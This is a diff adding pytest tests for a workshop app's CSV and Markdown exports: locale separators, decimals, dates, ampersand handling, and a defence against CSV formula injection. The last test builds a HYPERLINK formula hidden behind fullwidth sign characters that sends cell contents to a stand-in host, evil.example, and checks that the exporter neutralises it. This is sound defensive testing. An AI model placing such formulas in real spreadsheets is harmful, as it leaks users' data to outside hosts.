@@ -3,6 +3,7 @@ PDF, CSV or Markdown back and fails on the fault it is named after."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import os
 import re
@@ -415,3 +416,58 @@ def test_the_agenda_table_never_leaves_a_row_alone(svc: WorkshopService) -> None
         assert all(squash(t) in agenda_page for t in titles), (
             f"with {n + 1} participants the agenda table splits across pages"
         )
+
+
+# --- 7. exports: one rule ---------------------------------------------------------------
+
+
+def _csv(folder: Path, stem: str, delimiter: str) -> list[list[str]]:
+    with (folder / f"{stem}.csv").open(encoding="utf-8-sig", newline="") as fh:
+        return list(csv.reader(fh, delimiter=delimiter))
+
+
+def test_csv_dates_times_decimals_and_values_follow_one_rule(full: Snapshot, tmp_path) -> None:
+    it_dir, en_dir = tmp_path / "it", tmp_path / "en"
+    export_csv(full, it_dir, "it")
+    export_csv(full, en_dir, "en")
+    for folder, sep in ((it_dir, ";"), (en_dir, ",")):
+        agenda = _csv(folder, "agenda", sep)
+        first = agenda[1]
+        # planned and actual: ISO instants in Torino's zone, side by side
+        assert first[4] == "2025-11-05T09:00:00+01:00" and first[7] == "2025-11-05T09:05:00+01:00"
+        attendance = _csv(folder, "attendance", sep)
+        assert attendance[1][1] == "2025-11-05"
+    results = _csv(it_dir, "poll_results", ";")
+    scores = [row[6] for row in results[1:]]
+    assert "11,63" in scores and not any(re.fullmatch(r"\d+\.\d+", s) for s in scores)
+    assert "11.63" in [row[6] for row in _csv(en_dir, "poll_results", ",")[1:]]
+    modes_it = {row[2] for row in _csv(it_dir, "ballots", ";")[1:]}
+    modes_en = {row[2] for row in _csv(en_dir, "ballots", ",")[1:]}
+    assert modes_it <= {"chiosco", "votante", "conteggio su carta"} and modes_it
+    assert modes_en <= {"kiosk", "voter", "paper tally"} and modes_en
+
+
+def test_markdown_decimals_agree_and_ampersands_print_as_themselves(svc, full) -> None:
+    text = build_markdown(full, "it")
+    assert "2,63" in text and "11,63" in text
+    assert not re.search(r"\b\d+\.\d\d\b", text)  # no point decimals in Italian
+    item = svc.add_item(svc.days()[0].id, "Ricerca & sviluppo", planned_start=dt.time(9, 0))
+    svc.add_note("Comune & Regione; &amp; resta scritto così", agenda_item_id=item)
+    own = build_markdown(build_snapshot(svc), "it")
+    assert "Ricerca & sviluppo" in own and "Comune & Regione" in own
+    assert "\\&amp;" in own  # an entity typed by the user stays literal when rendered
+
+
+# --- issue 11: formulas hidden behind Unicode folding -----------------------------------
+
+
+@pytest.mark.parametrize("lead", ["＝", "﹦", "＋", "﹢", "－", "﹣", "＠", "﹫", "₌", "⁼"])
+def test_fullwidth_formula_sign_at_cell_start_is_neutralised(svc, tmp_path, lead) -> None:
+    item = svc.add_item(svc.days()[0].id, "Apertura", planned_start=dt.time(9, 0))
+    payload = f'{lead}HYPERLINK("http://evil.example/?"&A1;"clic")'
+    svc.add_note(payload, agenda_item_id=item, speaker=f"{lead}1+1")
+    files = export_csv(build_snapshot(svc), tmp_path / "csv", "en")
+    rows = _csv(tmp_path / "csv", "notes", ",")
+    assert rows[1][8] == "'" + payload
+    assert rows[1][4] == f"'{lead}1+1"
+    assert files
